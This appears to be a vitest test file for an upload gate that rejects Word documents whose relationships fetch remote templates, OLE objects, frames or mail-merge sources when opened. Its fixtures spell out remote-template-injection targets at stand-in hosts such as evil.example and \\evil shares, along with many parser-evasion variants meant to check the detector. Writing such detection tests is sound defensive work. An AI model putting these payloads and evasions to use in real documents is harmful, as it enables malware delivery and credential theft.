/** Documents that fetch something by being opened are refused, whatever their relationships are written like. */
import { buffer } from 'node:stream/consumers';
import type { FileRule } from '@sede/domain/kernel';
import { describe, expect, it } from 'vitest';
import { zipStream } from '../exports/zip-stream.ts';
import { fetchesFromOutside } from './docx-links.ts';
import { docxBytes, streamOf } from './files-for-tests.ts';
import { uploadGate } from './upload-gate.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const SETTINGS = 'word/_rels/settings.xml.rels';
const rels = (content: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="x">${content}</Relationships>`;
const external = (tipo: string, alvo = 'https://evil.example/a.dotm') =>
  `<Relationship Id="rId1" Type="${OFFICE}/${tipo}" Target="${alvo}" TargetMode="External"/>`;
const withRels = (content: string, name = SETTINGS) => docxBytes({ [name]: content });

const RULE: FileRule = {
  ...{ modulo: 'temas', kinds: ['docx'], maxBytes: 5_000_000 },
  textos: { tipo: 'Tipo de arquivo não permitido.', tamanho: (nome) => `${nome} é grande.`, limite: '5 MB' },
};
async function through(bytes: Buffer, old = false) {
  const { stream, kind } = uploadGate(RULE, { old });
  await buffer(streamOf(bytes).pipe(stream));
  return kind();
}

describe('at the gate', () => {
  it('an external template is refused as no permitted type', async () => {
    await expect(through(withRels(rels(external('attachedTemplate'))))).rejects.toMatchObject({
      code: 'anexos.tipo_recusado',
      kind: 'unsupported_type',
      message: 'Tipo de arquivo não permitido.',
    });
  });

  it('what comes over from the old system is not asked', async () => {
    expect(await through(withRels(rels(external('attachedTemplate'))), true)).toBe('docx');
  });

  it('links and linked pictures pass', async () => {
    expect(
      await through(withRels(rels(external('hyperlink') + external('image')), 'word/_rels/document.xml.rels')),
    ).toBe('docx');
  });
});

const template = external('attachedTemplate');
describe('reaches out', () => {
  it.each<[string, string, string?]>([
    ['an object', rels(external('oleObject'))],
    ['a frame', rels(external('frame'))],
    ['a subdocument', rels(external('subDocument'))],
    ['the list of a mailing', rels(external('mailMergeSource'))],
    ['its headings on a share', rels(external('mailMergeHeaderSource', 'file:///\\\\evil\\a.csv'))],
    [
      'a type of the strict standard',
      rels(template.replace(OFFICE, 'http://purl.oclc.org/ooxml/officeDocument/relationships')),
    ],
    ['a template of a share', rels(external('attachedTemplate', 'file:///\\\\evil\\a.dotm'))],
    ['a host behind file:', rels(external('attachedTemplate', 'file://evil/a.dotm'))],
    ['an object on a drive', rels(external('oleObject', 'file:///C:\\a.xlsx'))],
    [
      'another order, quotes and prefix',
      rels(`<r:Relationship TargetMode='External' Target='//e' Type='${OFFICE}/frame' Id='a'></r:Relationship>`),
    ],
    [
      'a prefix with an accent, in a root without one',
      `<Relationships xmlns="x" xmlns:é="x">${template.replace('<Relationship', '<é:Relationship')}</Relationships>`,
    ],
    ['a > in a value before', rels(template.replace('Id="rId1"', 'Id=">"'))],
    ['a quote in a comment before', rels(`<!-- ' -->${template}`)],
    ['a reference in the type', rels(external('attached&#84;emplate'))],
    ['another word for external', rels(template.replace('"External"', '" External"'))],
    ['a reference in the mode', rels(template.replace('"External"', '"Ext&#101;rnal"'))],
    ['a type of entities', `<!DOCTYPE a [<!ENTITY e "External">]>${rels('')}`],
    ['a tag that does not end', rels('<Relationship Id="')],
    ['another encoding', rels(template).replace('UTF-8', 'UTF-7')],
    ['no relationships', '<html/>'],
    ['capitals in the name', rels(template), 'WORD/_RELS/SETTINGS.XML.RELS'],
    ['a part in pieces', rels(template), `${SETTINGS}/[0].piece`],
    ['more than is looked at', rels(' '.repeat(5 * 1024 * 1024))],
  ])('%s', (_what, content, name) => {
    expect(fetchesFromOutside(withRels(content, name))).toBe(true);
  });

  it('in two bytes a letter', () => {
    expect(
      fetchesFromOutside(docxBytes({ [SETTINGS]: Buffer.from(rels(template), 'utf16le').toString('latin1') })),
    ).toBe(true);
  });
});

describe('does not', () => {
  it.each([
    ['an object inside', `<Relationship Id="a" Type="${OFFICE}/oleObject" Target="embeddings/a.bin"/>`],
    ['a link with an address of references', external('hyperlink', 'https://a.br/?b=1&amp;c=2')],
    ['the list of a mailing on a drive', external('mailMergeSource', 'file:///C:\\Users\\Ana\\lista.xlsx')],
    ['a link about frames', external('hyperlink', 'https://a.br/frame')],
    ['one that a comment holds', `<!-- ${external('frame')} -->`],
  ])('%s', (_what, content) => {
    expect(fetchesFromOutside(withRels(rels(content)))).toBe(false);
  });
});

const MAC = 'Library/Group%20Containers/UBF8T346G9.Office/User%20Content.localized/Templates.localized/Normal.dotm';
it.each([
  // As Word writes them on Windows and on a Mac.
  ['file:///C:\\Users\\ana\\Oficio.dotx', false],
  ['file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm', false],
  ['file:///C:/Users/ana/AppData/Roaming/Microsoft/Templates/Normal.dotm', false],
  ['file:///d:%5CModelos%5COf%C3%ADcio.dotx', false],
  [`file:///Users/ana/${MAC}`, false],
  ['file://localhost/Users/ana/Modelos/Oficio.dotx', false],
  ['file:///Applications/Microsoft%20Office%202011/Office/Media/Templates/Normal.dotm', false],
  ['file:///Library/Application%20Support/Microsoft/Office365/User%20Content.localized/Templates/a.dotx', false],
  ['file:///Users/ana/Oficio..dotx', false],
  // Asked for from a server, or perhaps.
  ['https://evil.example/a.dotm', true],
  ['http://10.0.0.1/a.dotm', true],
  ['ftp://evil/a.dotm', true],
  ['smb://evil/Users/a.dotm', true],
  ['afp://evil/Users/a.dotm', true],
  ['\\\\evil\\share\\a.dotm', true],
  ['//evil/Users/a.dotm', true],
  ['file://evil/Users/a.dotm', true],
  ['file://evil/C:/a.dotm', true],
  ['file:///\\\\evil\\a.dotm', true],
  [`file:////Users/ana/${MAC}`, true],
  ['file:////evil/Users/a.dotm', true],
  ['file://///evil/Users/a.dotm', true],
  ['file:\\\\evil\\C:\\a.dotm', true],
  ['file:///net/evil/Users/a.dotm', true],
  ['file:///Volumes/evil/a.dotm', true],
  ['file:///Users/../net/evil/a.dotm', true],
  ['file:///Users/%2e%2E/net/evil/a.dotm', true],
  ['file:///Users//evil/a.dotm', true],
  ['file:///Usersevil/a.dotm', true],
  ['file://localhost.evil.example/Users/a.dotm', true],
  ['file://localhost@evil/Users/a.dotm', true],
  ['mhtml:file:///Users/ana/a.dotm', true],
  ['Normal.dotm', true],
  ['', true],
])('a template at %s reaches out: %s', (alvo, out) => {
  expect(fetchesFromOutside(withRels(rels(external('attachedTemplate', alvo))))).toBe(out);
});

it('is found in documents as programs pack them', async () => {
  const packed = async (content: string) =>
    buffer(
      zipStream([
        { name: '[Content_Types].xml', content: ['<Types/>'] },
        { name: 'word/document.xml', content: ['<w:document/>'] },
        { name: SETTINGS, content: [rels(content)] },
      ]),
    );
  expect(fetchesFromOutside(await packed(template))).toBe(true);
  expect(await through(await packed(external('hyperlink')))).toBe('docx');
  const broken = await packed(template);
  broken.fill(0xff, broken.indexOf(SETTINGS) + SETTINGS.length, broken.indexOf(SETTINGS) + SETTINGS.length + 8);
  expect(fetchesFromOutside(broken)).toBe(true);
});

it('takes no longer than its length asks', () => {
  const contents = ['<Relationship ', '<Relationship a', '<Relationship a="', '<', ' ', '<a:'].map((word) =>
    word.repeat(Math.floor(1_000_000 / word.length)),
  );
  const start = performance.now();
  for (const content of [
    ...contents,
    `<Relationship ${'a'.repeat(1_000_000)}>`,
    `<Relationship${' '.repeat(1_000_000)}x>`,
  ])
    fetchesFromOutside(withRels(rels(content)));
  expect(performance.now() - start).toBeLessThan(5000);
});
